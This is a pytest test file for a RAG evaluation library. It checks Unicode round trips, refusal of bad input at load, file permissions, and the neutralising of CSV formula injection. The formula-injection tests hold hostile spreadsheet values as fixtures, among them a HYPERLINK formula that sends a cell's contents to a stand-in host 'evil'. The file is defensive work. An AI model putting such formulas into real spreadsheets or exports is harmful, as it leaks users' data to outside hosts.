"""Awkward text survives a round trip through ragmeter's own files; text no file can hold is
refused at load, naming line and field; results follow the user's umask."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

import ragmeter
from ragmeter.errors import DataError
from ragmeter.io.datasets import load_dataset
from ragmeter.judges.scripted import ScriptedJudge

# every character str.splitlines() breaks at, a bare CR, and a context longer than csv's default limit
AWKWARD = "a\u2028b\u2029c\u0085d\x1ce\x1df\x1eg\x0bh\x0ci\rj\r\nk\nl"
LONG = "word " * 40_000


def rows() -> list[dict]:
    return [{"id": "awkward", "user_input": AWKWARD, "response": "fine.", "retrieved_contexts": [AWKWARD, LONG],
             "reference": "fine."},
            {"id": "plain", "user_input": "q?", "response": "a.", "retrieved_contexts": ["c"], "reference": "r."}]


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet"])
def test_results_read_back_with_every_awkward_character(fmt, tmp_path: Path):
    result = ragmeter.evaluate(rows(), ["exact_match"], judge=ScriptedJudge({}), cache=False, progress=False,
                               out=tmp_path / "out", format=fmt)
    path = result.results_path
    back = load_dataset(path)
    assert len(back) == 2
    assert back.samples[0].user_input == AWKWARD
    assert back.samples[0].retrieved_contexts == [AWKWARD, LONG]
    assert back.records[0]["exact_match"] in (1.0, "1.0")


def test_a_lone_surrogate_is_refused_at_load_naming_line_and_field(tmp_path: Path):
    path = tmp_path / "d.jsonl"
    good = json.dumps(rows()[1])
    path.write_text(good + "\n" + '{"user_input": "q", "response": "bad \\ud800 text", "retrieved_contexts": ["c"]}\n')
    with pytest.raises(DataError, match=r"d\.jsonl, line 2, field 'response': text that UTF-8 cannot encode"):
        load_dataset(path)


@pytest.mark.parametrize("grade", ["Infinity", "NaN", "-Infinity"])
def test_non_finite_relevance_grades_are_refused_at_load(grade, tmp_path: Path):
    path = tmp_path / "g.jsonl"
    path.write_text(f'{{"user_input": "q", "retrieved_context_ids": ["d1"], "relevance_grades": {{"d1": {grade}}}}}\n')
    with pytest.raises(DataError, match=r"g\.jsonl, line 1, field 'relevance_grades': d1: .*finite"):
        load_dataset(path)


def test_csv_with_a_broken_quote_names_the_file(tmp_path: Path):
    path = tmp_path / "b.csv"
    path.write_text('user_input,response\n"q","a\n')
    with pytest.raises(DataError, match=r"b\.csv"):
        load_dataset(path)


def test_result_files_follow_the_umask(tmp_path: Path):
    old = os.umask(0o022)
    try:
        path = ragmeter.evaluate(rows()[1:], ["exact_match"], judge=ScriptedJudge({}), cache=False, progress=False,
                                 out=tmp_path / "out").results_path
    finally:
        os.umask(old)
    assert path.stat().st_mode & 0o777 == 0o644
    assert (path.parent / "manifest.json").stat().st_mode & 0o777 == 0o644


def test_csv_results_neutralise_formulas_and_read_back_unchanged(tmp_path):
    """Cells beginning =, +, -, @ ran as spreadsheet formulas (issue 37, item 20)."""
    import csv

    from ragmeter.results.runs import load_run
    from tests.cli_runner import run_cli

    hostile = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "plain answer"]
    data = tmp_path / "d.jsonl"
    data.write_text("".join(json.dumps({"id": f"r{i}", "user_input": "q?", "response": text, "reference": text})
                            + "\n" for i, text in enumerate(hostile)))
    assert run_cli("evaluate", str(data), "--metrics", "exact_match", "--format", "csv",
                   "--out", str(tmp_path / "run")).returncode == 0
    with (tmp_path / "run" / "results.csv").open(newline="") as handle:
        cells = [row["response"] for row in csv.DictReader(handle)]
    assert cells == ["'" + t for t in hostile[:4]] + ["plain answer"]  # quoted as OWASP recommends
    run = load_run(tmp_path / "run")
    assert [row["response"] for row in run.rows] == hostile  # ragmeter reads its own results back unchanged
    assert run.scores["exact_match"] == [1.0] * 5


def test_csv_headers_are_neutralised_and_quoted_cells_read_back_exactly(tmp_path):
    """Issue 50 (security 23, small 20): a dataset column named `=HYPERLINK(...)` was a bare
    header cell, and a cell whose own text starts `'=` read back without its quote."""
    import csv

    from ragmeter.results.runs import load_run
    from tests.cli_runner import run_cli

    texts = ["'=already quoted", "''@twice", "'plain quote"]
    data = tmp_path / "d.jsonl"
    data.write_text("".join(json.dumps({"id": f"r{i}", "user_input": "q?", "response": t, "reference": t,
                                        '=HYPERLINK("http://x")': "v", "@cmd": "w"}) + "\n"
                            for i, t in enumerate(texts)))
    assert run_cli("evaluate", str(data), "--metrics", "exact_match", "--format", "csv",
                   "--out", str(tmp_path / "run")).returncode == 0
    with (tmp_path / "run" / "results.csv").open(newline="") as handle:
        header = next(csv.reader(handle))
    assert "'=HYPERLINK(\"http://x\")" in header and "'@cmd" in header
    assert not any(h.startswith(("=", "+", "-", "@")) for h in header)
    run = load_run(tmp_path / "run")
    assert [row["response"] for row in run.rows] == texts
    assert run.rows[0]['=HYPERLINK("http://x")'] == "v" and run.rows[0]["@cmd"] == "w"
